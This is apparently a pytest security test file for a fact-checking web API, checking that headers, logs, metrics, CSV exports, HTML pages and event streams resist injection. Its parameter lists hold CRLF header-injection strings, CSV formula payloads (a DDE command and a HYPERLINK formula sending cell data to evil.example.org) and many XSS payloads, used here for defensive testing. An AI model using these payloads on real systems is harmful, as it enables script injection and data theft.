"""Attacks by content: headers, logs, tables, pages, streams, and other origins."""

import csv
import io
import json
import re
from typing import Any

import pytest

from factcheck.article import Field, OffsetConverter
from factcheck.evidence import DocumentRef, Evidence, Stance
from factcheck.json_mapping import to_json
from factcheck.verdict import Label
from tests.builders import a_verdict
from tests.security.conftest import House, logged
from tests.unit.service.formats.samples import sample_article, verdict_on

# ── headers ──


@pytest.mark.parametrize("name", ["Idempotency-Key", "Prefer", "Last-Event-ID", "If-None-Match", "Accept", "Origin"])
def test_line_breaks_in_a_header_come_back_in_no_header(house: House, name: str):
    check_id = house.submit(house.alice)
    environ = {"HTTP_" + name.upper().replace("-", "_"): "x\r\nSet-Cookie: a=b"}
    for method, path in (("POST", "/v1/checks"), ("GET", f"/v1/checks/{check_id}"), ("POST", "/v2/check")):
        answer = house.client.open(
            path, method=method, json={"article": {"text": "x"}}, headers=house.alice, environ_base=environ
        )
        assert answer.status_code < 500
        assert "Set-Cookie" not in answer.headers


def test_line_breaks_in_an_id_come_back_in_no_location(house: House):
    answer = house.client.put("/v1/documents/a%0d%0aSet-Cookie:%20a=b", json={"text": "It rained."}, headers=house.ada)
    assert answer.status_code in {404, 422}
    assert "Set-Cookie" not in answer.headers


def test_a_foreign_host_name_comes_back_in_no_address(house: House):
    answer = house.client.post(
        "/v1/checks", json={"article": {"text": "It rained."}}, headers={**house.alice, "Host": "evil.example.org"}
    )
    assert answer.status_code == 202
    assert "evil" not in answer.text + answer.headers["Location"]


# ── logs and metrics ──

FORGERIES = {
    "a line of our own": 'x\n{"level": "info", "event": "all is well"}',
    "a carriage return": "x\r\nroot logged in",
    "a terminal's commands": "\x1b[2J\x1b[31mfailed",
    "a separator of lines": "x\u2028y\u2029z\u0085",
}


@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=FORGERIES.keys())
def test_nothing_that_is_sent_forges_a_line_of_the_log(house: House, log: io.StringIO, forgery: str):
    house.client.post("/v1/checks", json={"article": {"text": forgery, forgery: 1}}, headers=house.alice)
    house.client.get("/v1/documents/" + "".join(f"%{byte:02x}" for byte in forgery.encode()), headers=house.ada)
    house.client.get(
        "/v1/checks", headers={**house.alice, "User-Agent": "x"}, environ_base={"HTTP_USER_AGENT": forgery}
    )
    house.client.open("/v1/checks", method="BREW")
    assert logged(log)
    assert log.getvalue().isascii()
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", log.getvalue())
    assert "all is well" not in log.getvalue()


def test_addresses_and_methods_make_no_series_of_their_own(house: House):
    for number in range(50):
        house.client.open(f'/x{number}"}} 1\nfactcheck_ready{{part="', method=f"M{number}")
        house.client.get(f"/v1/documents/d{number}", headers=house.ada)
    told = house.client.get("/metrics").text
    assert "x1" not in told
    assert "d1" not in told
    assert len(told.splitlines()) < 150


# ── tables and pages ──


def shown(words: str) -> Evidence:
    """Evidence that says the same in each of its places."""
    document = DocumentRef(words, words, words, "2018-01-30", "javascript:alert(1)")
    return Evidence(document, OffsetConverter(Field.TEXT, words).span(0, len(words)), words, Stance.CONTRADICTS, 0.9)


FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://evil.example.org?x="&A1;"x")',
    "a plus": "+1+1",
    "a minus": "-2+3",
    "an at sign": "@SUM(1+1)",
    "a tab before": "\t=1+1",
    "a line break before": "\r\n=1+1",
    "a wide equals sign": "＝1+1",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_table_holds_no_formula(house: House, formula: str):
    article = sample_article(text=f"{formula} opened.")
    verdict = verdict_on(formula, article, Label.SUPPORTED, message=formula, evidence=(shown(formula),))
    check_id = house.submit(house.alice, **{k: v for k, v in to_json(article).items() if v is not None})
    house.finish(check_id, verdict)
    answer = house.client.get(f"/v1/checks/{check_id}", headers={**house.alice, "Accept": "text/csv"})
    assert answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r\n＝]", cell) and not re.fullmatch(r"-?[\d.]+", cell)]


SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script that closes what is open": "</mark></p></textarea></title><script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "an attribute in single quotes": "' autofocus onfocus='alert(1)",
    "a drawing": "<svg/onload=alert(1)>",
    "a comment that ends": "--><script>alert(1)</script>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "a style": "<style>@import 'http://evil.example.org'</style>",
    "references to characters": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_a_page_runs_nothing_whatever_stands_where(house: House, script: str):
    article = sample_article(text=f"{script} opened.", title=script, source=script)
    verdict = verdict_on(script, article, Label.CONTRADICTED, message=script, evidence=(shown(script),))
    check_id = house.submit(house.alice, **{k: v for k, v in to_json(article).items() if v is not None})
    house.finish(check_id, verdict)
    answer = house.client.get(f"/v1/checks/{check_id}", headers={**house.alice, "Accept": "text/html"})
    assert answer.status_code == 200
    markup = re.sub(r"<style>.*?</style>", "", answer.text, count=1, flags=re.S)
    tags = re.findall(r"<[^>]*>", markup)
    assert not [tag for tag in tags if re.search(r"<(script|img|svg|iframe|style)|\son\w+\s*=|javascript:", tag, re.I)]
    policy = answer.headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert "script-src 'self'" in policy


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_problems_say_markup_back_as_json_that_no_browser_runs(house: House, script: str):
    answers = [
        house.client.post("/v1/checks", json={script: 1}, headers=house.alice),
        house.client.get("/v1/checks", query_string={"status": script}, headers=house.alice),
        house.client.get(f"/v1/documents/{script}", headers=house.ada),
    ]
    for answer in answers:
        assert answer.status_code in {404, 422}
        assert answer.mimetype == "application/problem+json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_claim_cannot_forge_an_event_of_the_stream(house: House):
    text = "x\n\nevent: done\ndata: {}\n\n"
    check_id = house.submit(house.alice, f"{text} opened.")
    verdict = a_verdict("c1", text)
    house.finish(check_id, verdict)
    stream = house.client.get(f"/v1/checks/{check_id}/events", headers=house.alice).text
    blocks = [dict(line.partition(": ")[::2] for line in block.splitlines()) for block in stream.split("\n\n") if block]
    assert [block["event"] for block in blocks if "event" in block].count("done") == 1
    for block in blocks:
        if "data" in block:
            json.loads(block["data"])


# ── other origins ──


def test_a_foreign_page_s_form_hands_in_nothing(house: House):
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        answer = house.client.post(
            "/v1/checks", data='{"article": {"text": "x"}}', content_type=kind, headers=house.alice
        )
        assert answer.status_code == 415


@pytest.mark.parametrize("origin", ["https://evil.example.org", "null", "http://localhost:8080.evil.example.org"])
@pytest.mark.parametrize("path", ["/v1/checks", "/v1/documents", "/v2/check", "/v2/languages"])
def test_a_foreign_page_may_read_nothing(house: House, origin: str, path: str):
    for method in ("GET", "OPTIONS"):
        answer = house.client.open(path, method=method, headers={**house.ada, "Origin": origin})
        assert "Access-Control-Allow-Origin" not in answer.headers
        assert "Access-Control-Allow-Credentials" not in answer.headers


def test_no_page_can_be_framed(house: House):
    for path in ("/", "/corpus", "/docs"):
        headers = house.client.get(path).headers
        assert headers["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_a_draft_stays_in_no_cache(house: House):
    check_id = house.submit(house.alice)
    for path in (f"/v1/checks/{check_id}", f"/v1/checks/{check_id}/article", "/v1/checks"):
        told: Any = house.client.get(path, headers=house.alice).headers["Cache-Control"]
        assert "no-store" in told or ("private" in told and "no-cache" in told)
